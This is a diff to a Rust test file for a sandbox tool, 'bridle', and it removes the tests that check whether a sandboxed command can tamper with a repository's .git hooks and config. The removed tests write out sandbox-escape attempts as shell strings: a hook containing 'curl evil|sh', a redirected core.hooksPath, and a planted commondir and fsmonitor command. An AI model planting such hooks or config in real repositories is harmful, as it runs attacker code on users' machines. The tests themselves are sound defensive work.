@@ -6,16 +6,14 @@
 
 use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::process::Command;
-use std::time::Duration;
 
 use pretty_assertions::assert_eq;
 
-use super::support::{ExecEnv, Run, path_str, token, wait_until};
+use super::support::{ExecEnv, Run, path_str, token};
 
 /// Everything about a path that a write, rename, link or metadata change would alter.
 #[derive(Debug, Clone, PartialEq, Eq)]
-struct Snapshot {
+pub(super) struct Snapshot {
     content: Option<Vec<u8>>,
     mode: u32,
     uid: u32,
@@ -27,7 +25,7 @@ struct Snapshot {
     ctime: (i64, i64),
 }
 
-fn snapshot(path: &Path) -> Option<Snapshot> {
+pub(super) fn snapshot(path: &Path) -> Option<Snapshot> {
     let meta = std::fs::symlink_metadata(path).ok()?;
     Some(Snapshot {
         content: meta
@@ -45,7 +43,7 @@ fn snapshot(path: &Path) -> Option<Snapshot> {
 }
 
 /// The names in `dir`, sorted.
-fn listing(dir: &Path) -> Vec<String> {
+pub(super) fn listing(dir: &Path) -> Vec<String> {
     let mut names: Vec<String> = std::fs::read_dir(dir)
         .expect("read dir")
         .map(|e| {
@@ -567,265 +565,6 @@ fn allow_write_adds_a_writable_root() {
 // ---------------------------------------------------------------------------------------------
 // G-FS-PROTECT
 
-fn git(dir: &Path, args: &[&str]) -> String {
-    let out = Command::new("git")
-        .args(args)
-        .current_dir(dir)
-        .env_clear()
-        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
-        .env("HOME", dir)
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .output()
-        .expect("run git");
-    assert!(
-        out.status.success(),
-        "git {args:?}: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    String::from_utf8_lossy(&out.stdout).into_owned()
-}
-
-fn git_repo() -> ExecEnv {
-    let e = ExecEnv::new();
-    git(&e.workspace, &["init", "-q", "-b", "main", "."]);
-    std::fs::write(
-        e.workspace.join(".git/hooks/pre-commit.sample"),
-        "#!/bin/sh\n",
-    )
-    .unwrap();
-    e
-}
-
-#[test]
-fn git_hooks_and_config_are_read_only() {
-    let e = git_repo();
-    let hooks = e.workspace.join(".git/hooks");
-    let config = e.workspace.join(".git/config");
-    let sample = hooks.join("pre-commit.sample");
-    let before = (snapshot(&config), snapshot(&sample), listing(&hooks));
-    let r = e.sh(
-        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo new_hook=$?
-         echo evil >> .git/hooks/pre-commit.sample; echo edit_hook=$?
-         chmod +x .git/hooks/pre-commit.sample; echo chmod_hook=$?
-         rm .git/hooks/pre-commit.sample; echo rm_hook=$?
-         mv .git/hooks/pre-commit.sample .git/hooks/pre-commit; echo rename_hook=$?
-         printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config; echo edit_config=$?
-         git config core.hooksPath .evil; echo git_config=$?
-         rm -f .git/config; echo rm_config=$?
-         mv .git/config .git/config.old; echo rename_config=$?
-         touch -d 2000-01-01 .git/config; echo utimes_config=$?",
-    );
-    r.assert_ok();
-    for step in [
-        "new_hook",
-        "edit_hook",
-        "chmod_hook",
-        "rm_hook",
-        "rename_hook",
-        "edit_config",
-        "git_config",
-        "rm_config",
-        "rename_config",
-        "utimes_config",
-    ] {
-        r.assert_failed(step);
-    }
-    assert_eq!(
-        (snapshot(&config), snapshot(&sample), listing(&hooks)),
-        before,
-        "{}",
-        r.stderr
-    );
-}
-
-#[test]
-fn git_dir_cannot_be_swapped_out() {
-    let e = git_repo();
-    let r = e.sh("mv .git .git2; echo rename_git=$?
-         mv .git/hooks .git/hooks.old; echo rename_hooks=$?
-         rm -rf .git/hooks; echo rm_hooks=$?
-         mkdir -p fake/hooks && printf '#!/bin/sh\\nexit 0\\n' > fake/hooks/pre-commit
-         rm -rf .git/hooks 2>/dev/null; mv fake/hooks .git/hooks; echo replace_hooks=$?");
-    r.assert_ok();
-    r.assert_failed("rename_git");
-    r.assert_failed("rename_hooks");
-    r.assert_failed("rm_hooks");
-    r.assert_failed("replace_hooks");
-    assert!(e.workspace.join(".git/config").is_file());
-    assert!(e.workspace.join(".git/hooks/pre-commit.sample").is_file());
-    assert!(!e.workspace.join(".git/hooks/pre-commit").exists());
-    assert!(!e.workspace.join(".git2").exists());
-}
-
-#[test]
-fn ordinary_git_use_keeps_working() {
-    let e = git_repo();
-    let r = e.sh(
-        "export GIT_CONFIG_NOSYSTEM=1
-         echo hello > a.txt && git add a.txt; echo add=$?
-         git -c user.name=Agent -c user.email=agent@example.com commit -q -m 'first'; echo commit=$?
-         git branch feature; echo branch=$?
-         git checkout -q feature && echo more >> a.txt &&
-           git -c user.name=Agent -c user.email=agent@example.com commit -q -am second; echo commit2=$?
-         git checkout -q main; echo checkout=$?
-         git log --oneline --all | wc -l | sed 's/^ */commits=/'
-         git status --porcelain | wc -l | sed 's/^ */dirty=/'",
-    );
-    r.assert_ok();
-    for step in ["add", "commit", "branch", "commit2", "checkout"] {
-        r.assert_succeeded(step);
-    }
-    assert_eq!(r.value("commits"), "2");
-    // Judged from outside too: the host's git sees the history and the branch.
-    let branches = git(&e.workspace, &["branch", "--list"]);
-    assert!(
-        branches.contains("feature") && branches.contains("main"),
-        "{branches}"
-    );
-    let log = git(&e.workspace, &["log", "--format=%s", "feature"]);
-    assert_eq!(log, "second\nfirst\n");
-}
-
-#[test]
-fn git_init_at_workspace_root_fails_and_leaves_no_git_dir() {
-    let e = ExecEnv::new();
-    e.write("src/main.c", "int main;\n");
-    let r = e.sh("git init -q .; echo init=$?
-         mkdir -p .git/hooks 2>/dev/null
-         echo evil > .git/hooks/post-checkout; echo hook=$?
-         mkdir sub && cd sub && git init -q . && echo nested_init=0");
-    r.assert_ok();
-    r.assert_failed("init");
-    r.assert_failed("hook");
-    // A repository below the root is ordinary work.
-    r.assert_succeeded("nested_init");
-    assert!(e.workspace.join("sub/.git/HEAD").is_file());
-    // No placeholder is left behind.
-    assert_eq!(listing(&e.workspace), ["src", "sub"]);
-}
-
-#[test]
-fn bridle_dir_is_read_only() {
-    let e = ExecEnv::new();
-    let layer = e.write(".bridle/notes.txt", "mine\n");
-    let before = snapshot(&layer);
-    let r = e.sh(
-        "echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?
-         echo x >> .bridle/notes.txt; echo append=$?
-         mv .bridle .bridle.old; echo rename=$?
-         rm -rf .bridle; echo rm=$?",
-    );
-    r.assert_ok();
-    for step in ["create", "append", "rename", "rm"] {
-        r.assert_failed(step);
-    }
-    assert_eq!(snapshot(&layer), before);
-    assert_eq!(listing(&e.workspace.join(".bridle")), ["notes.txt"]);
-}
-
-#[test]
-fn missing_bridle_dir_cannot_be_created() {
-    let e = ExecEnv::new();
-    let r = e.sh("mkdir -p .bridle; echo mkdir=$?
-         echo 'mode: danger-full-access' > .bridle/profile.yaml; echo create=$?");
-    r.assert_ok();
-    r.assert_failed("create");
-    assert!(!e.workspace.join(".bridle").exists());
-}
-
-/// A placeholder is shared by concurrent runs in one workspace: the run that created it must not
-/// remove it while another run still relies on it (removing a mount point on the host detaches
-/// it in the other run's mount namespace, and `.git/hooks` would become writable there).
-#[test]
-fn protection_holds_when_a_concurrent_run_ends_first() {
-    let e = ExecEnv::new();
-    let ws = e.workspace.clone();
-    let first = e
-        .exec_cmd(
-            &[],
-            &[],
-            &["sh", "-c", "while [ ! -e first-go ]; do sleep 0.02; done"],
-        )
-        .spawn()
-        .unwrap();
-    let mut first = Guard(first);
-    assert!(
-        wait_until(Duration::from_secs(10), || ws.join(".git").is_dir()),
-        "the first run never protected .git"
-    );
-    let second = e
-        .exec_cmd(
-            &[],
-            &[],
-            &[
-                "sh",
-                "-c",
-                "echo > second-ready; while [ ! -e second-go ]; do sleep 0.02; done
-                 mkdir -p .git/hooks; echo mkdir=$?
-                 echo evil > .git/hooks/pre-commit; echo hook=$?
-                 git init -q .; echo init=$?",
-            ],
-        )
-        .stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped())
-        .spawn()
-        .unwrap();
-    assert!(
-        wait_until(Duration::from_secs(10), || ws.join("second-ready").exists()),
-        "the second run never started"
-    );
-    std::fs::write(ws.join("first-go"), "").unwrap();
-    let status = first.0.wait().unwrap();
-    assert_eq!(status.code(), Some(0));
-    std::fs::write(ws.join("second-go"), "").unwrap();
-    let out = second.wait_with_output().unwrap();
-    let r = Run {
-        code: out.status.code(),
-        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
-        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
-        elapsed: Duration::ZERO,
-    };
-    r.assert_ok();
-    r.assert_failed("mkdir");
-    r.assert_failed("hook");
-    r.assert_failed("init");
-    assert!(
-        !ws.join(".git/hooks/pre-commit").exists(),
-        "a hook was planted on the host"
-    );
-    // The last run out removed the shared placeholders.
-    assert_eq!(
-        listing(&ws),
-        ["first-go", "second-go", "second-ready"],
-        "{}",
-        r.stderr
-    );
-}
-
-#[test]
-fn placeholders_left_by_a_killed_run_are_cleaned_up() {
-    let e = ExecEnv::new();
-    let ws = &e.workspace;
-    // What a bridle killed with SIGKILL leaves behind.
-    std::fs::create_dir(ws.join(".git")).unwrap();
-    std::fs::write(ws.join(".git/.bridle-placeholder"), "").unwrap();
-    let r = e.sh("git init -q .; echo init=$?; echo x > .git/config; echo config=$?");
-    r.assert_ok();
-    r.assert_failed("init");
-    r.assert_failed("config");
-    assert_eq!(listing(ws), Vec::<String>::new());
-}
-
-/// Kills the child when dropped (a failed assertion must not leave a bridle waiting forever).
-struct Guard(std::process::Child);
-
-impl Drop for Guard {
-    fn drop(&mut self) {
-        let _ = self.0.kill();
-        let _ = self.0.wait();
-    }
-}
-
 // ---------------------------------------------------------------------------------------------
 // G-FS-MASK
 
@@ -923,61 +662,6 @@ fn default_profile_does_not_mask_but_still_protects_home() {
     assert_eq!(snapshot(&key), before);
 }
 
-/// `.git/config` and `.git/hooks` are read-only, but `.git` itself must stay writable for
-/// ordinary git use, and git reads its config and hooks from the directory named in
-/// `$GIT_DIR/commondir` when that file exists. A missing file cannot be bound read-only, so
-/// bridle's init watches for it: a planted `commondir` is removed and the sandbox stopped, and the
-/// user's next `git status` outside does not run the planted `core.fsmonitor` command.
-#[test]
-fn git_commondir_cannot_redirect_config_and_hooks() {
-    let e = git_repo();
-    git(
-        &e.workspace,
-        &[
-            "-c",
-            "user.name=a",
-            "-c",
-            "user.email=a@e",
-            "commit",
-            "-q",
-            "--allow-empty",
-            "-m",
-            "init",
-        ],
-    );
-    let marker = e.outside.join("fsmonitor-ran");
-    let m = path_str(&marker);
-    let r = e.sh(&format!(
-        "mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/
-         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {m}; false\"\\n' > evil/config
-         echo ../evil > .git/commondir; echo commondir=$?; sleep 5; echo survived"
-    ));
-    // Init notices the planted file, removes it and stops the sandbox.
-    assert_eq!(r.code, Some(137), "{}\n{}", r.stdout, r.stderr);
-    assert!(!r.stdout.contains("survived"), "{}", r.stdout);
-    assert!(
-        r.stderr.contains("redirect git's configuration"),
-        "{}",
-        r.stderr
-    );
-    assert!(
-        !e.workspace.join(".git/commondir").exists(),
-        "the planted commondir is still there"
-    );
-    // Judged from outside: the user's own git, after the run, must not run the planted command.
-    let _ = Command::new("git")
-        .args(["status", "--porcelain"])
-        .current_dir(&e.workspace)
-        .env_clear()
-        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
-        .env("HOME", &e.home)
-        .output();
-    assert!(
-        !marker.exists(),
-        "the user's git ran a command planted from inside the sandbox"
-    );
-}
-
 #[test]
 fn masked_paths_stay_unreadable_when_the_host_replaces_or_creates_them_mid_run() {
     let e = ExecEnv::new();
@@ -1012,37 +696,4 @@ fn masked_paths_stay_unreadable_when_the_host_replaces_or_creates_them_mid_run()
             "masked content {secret} was read: {stdout}"
         );
     }
-}
-
-#[test]
-fn a_protected_file_replaced_on_the_host_stops_the_sandbox() {
-    let e = ExecEnv::new();
-    let git = |args: &[&str]| {
-        let status = Command::new("git")
-            .args(args)
-            .current_dir(&e.workspace)
-            .env("HOME", &e.home)
-            .status()
-            .unwrap();
-        assert!(status.success(), "git {args:?}");
-    };
-    git(&["init", "-q", "."]);
-    // The command waits, then tries to plant configuration once the host has rewritten it.
-    let script = "sleep 1.5; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; echo appended=$?; sleep 1; echo end";
-    let mut cmd = e.exec_cmd(&[], &[], &["sh", "-c", script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
-    std::thread::sleep(Duration::from_millis(600));
-    // `git config` rewrites .git/config by rename, which detaches the read-only bind inside.
-    git(&["config", "user.name", "host-user"]);
-    let out = child.wait_with_output().unwrap();
-    let stderr = String::from_utf8_lossy(&out.stderr);
-    assert_eq!(out.status.code(), Some(137), "{stderr}");
-    assert!(
-        stderr.contains("was replaced from outside the sandbox"),
-        "{stderr}"
-    );
-    let config = std::fs::read_to_string(e.workspace.join(".git/config")).unwrap();
-    assert!(!config.contains("fsmonitor"), "{config}");
 }
